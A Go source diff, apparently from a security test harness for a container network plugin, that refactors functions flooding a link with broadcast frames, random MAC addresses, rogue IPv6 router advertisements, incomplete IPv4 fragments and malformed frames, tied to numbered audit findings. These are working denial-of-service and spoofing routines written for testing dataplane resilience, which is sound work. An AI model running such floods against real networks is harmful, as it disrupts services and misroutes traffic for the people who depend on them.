@@ -3,10 +3,7 @@ package main
 import (
 	"context"
 	"encoding/binary"
-	"encoding/json"
 	"errors"
-	"fmt"
-	"maps"
 	"math/rand/v2"
 	"net"
 	"net/netip"
@@ -41,8 +38,8 @@ func openWire(o orders, link string) (w wire, err error) {
 }
 
 // flood sends what next makes until ctx ends.
-func flood(ctx context.Context, o orders, link string, underWay func(), next func(w wire) ([]byte, error)) error {
-	w, err := openWire(o, link)
+func flood(ctx context.Context, o campaign, link string, next func(w wire) ([]byte, error)) error {
+	w, err := openWire(o.orders, link)
 	if err != nil {
 		return err
 	}
@@ -53,7 +50,7 @@ func flood(ctx context.Context, o orders, link string, underWay func(), next fun
 			return err
 		}
 		if _, err := unix.Write(w.fd, frame); err == nil {
-			underWay()
+			o.underWay()
 		}
 	}
 	return nil
@@ -68,16 +65,16 @@ func serialize(all ...gopacket.SerializableLayer) ([]byte, error) {
 var broadcastMAC = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
 
 // broadcasts: finding 9.
-func broadcasts(ctx context.Context, o orders, underWay func()) error {
-	return flood(ctx, o, "x0", underWay, func(w wire) ([]byte, error) {
+func broadcasts(ctx context.Context, o campaign) error {
+	return flood(ctx, o, "x0", func(w wire) ([]byte, error) {
 		return append(append(append([]byte{}, broadcastMAC...), w.mac...), make([]byte, 48)...), nil
 	})
 }
 
 // randomMACs fills the tables in which the dataplane learns, and has it flood.
-func randomMACs(ctx context.Context, o orders, underWay func()) error {
+func randomMACs(ctx context.Context, o campaign) error {
 	random := rand.New(rand.NewPCG(5, 6))
-	return flood(ctx, o, "x0", underWay, func(wire) ([]byte, error) {
+	return flood(ctx, o, "x0", func(wire) ([]byte, error) {
 		frame := make([]byte, 60)
 		noise(frame[:12], random)
 		frame[0], frame[6] = 2, 2
@@ -89,8 +86,8 @@ func randomMACs(ctx context.Context, o orders, underWay func()) error {
 var attackersLinkLocal = netip.MustParseAddr("fe80::bad")
 
 // routerAdvertisements: finding 7.
-func routerAdvertisements(ctx context.Context, o orders, underWay func()) error {
-	return flood(ctx, o, "x0", underWay, func(w wire) ([]byte, error) {
+func routerAdvertisements(ctx context.Context, o campaign) error {
+	return flood(ctx, o, "x0", func(w wire) ([]byte, error) {
 		pause(ctx, 10_000_000)
 		ip := &layers.IPv6{Version: 6, HopLimit: 255, NextHeader: layers.IPProtocolICMPv6,
 			SrcIP: attackersLinkLocal.AsSlice(), DstIP: net.ParseIP("ff02::1")}
@@ -116,9 +113,9 @@ func (w wire) toGateway() *layers.Ethernet {
 }
 
 // fragments of packets to a victim that are never complete.
-func fragments(ctx context.Context, o orders, underWay func()) error {
+func fragments(ctx context.Context, o campaign) error {
 	random := rand.New(rand.NewPCG(7, 8))
-	return flood(ctx, o, "eth0", underWay, func(w wire) ([]byte, error) {
+	return flood(ctx, o, "eth0", func(w wire) ([]byte, error) {
 		return serialize(w.toGateway(), &layers.IPv4{
 			Version: 4, TTL: 64, Id: uint16(random.Uint32()), Flags: layers.IPv4MoreFragments, FragOffset: uint16(random.IntN(1000)),
 			Protocol: layers.IPProtocolUDP, SrcIP: net.IPv4(10, 1, 0, byte(random.Uint32())), DstIP: o.Neighbour.Addr().AsSlice(),
@@ -127,7 +124,7 @@ func fragments(ctx context.Context, o orders, underWay func()) error {
 }
 
 // unresolvedNeighbours has the pod's kernel send to addresses that do not exist.
-func unresolvedNeighbours(ctx context.Context, o orders, underWay func()) error {
+func unresolvedNeighbours(ctx context.Context, o campaign) error {
 	var socket *net.UDPConn
 	err := netns.Do(o.Netns, func() (err error) {
 		socket, err = net.ListenUDP("udp4", nil)
@@ -143,16 +140,16 @@ func unresolvedNeighbours(ctx context.Context, o orders, underWay func()) error 
 			to := netip.AddrFrom4([4]byte{subnet[0], subnet[1], byte(random.Uint32()), byte(random.Uint32())})
 			_, _ = socket.WriteToUDPAddrPort([]byte("x"), netip.AddrPortFrom(to, 9))
 		}
-		underWay()
+		o.underWay()
 	}
 	return nil
 }
 
 // randomFrames are of every type and of no sense.
-func randomFrames(ctx context.Context, o orders, underWay func()) error {
+func randomFrames(ctx context.Context, o campaign) error {
 	random := rand.New(rand.NewPCG(11, 12))
 	types := []uint16{0x0800, 0x86dd, 0x0806, 0x8100, 0x88a8, 0x8847}
-	return flood(ctx, o, "x0", underWay, func(w wire) ([]byte, error) {
+	return flood(ctx, o, "x0", func(w wire) ([]byte, error) {
 		frame := make([]byte, 14+random.IntN(1400))
 		noise(frame, random)
 		copy(frame[6:], w.mac)
@@ -162,26 +159,4 @@ func randomFrames(ctx context.Context, o orders, underWay func()) error {
 		}
 		return frame, nil
 	})
-}
-
-// pluginConf is the configuration of the first plugin of a list, as a runtime gives it to that plugin.
-func pluginConf(list []byte) ([]byte, error) {
-	var all struct {
-		CNIVersion string           `json:"cniVersion"`
-		Name       string           `json:"name"`
-		Plugins    []map[string]any `json:"plugins"`
-	}
-	if err := json.Unmarshal(list, &all); err != nil {
-		return nil, err
-	}
-	if len(all.Plugins) == 0 {
-		return nil, errors.New("no plugin")
-	}
-	conf := maps.Clone(all.Plugins[0])
-	conf["cniVersion"], conf["name"] = all.CNIVersion, all.Name
-	text, err := json.Marshal(conf)
-	if err != nil {
-		return nil, fmt.Errorf("configuration of the plugin: %w", err)
-	}
-	return text, nil
 }
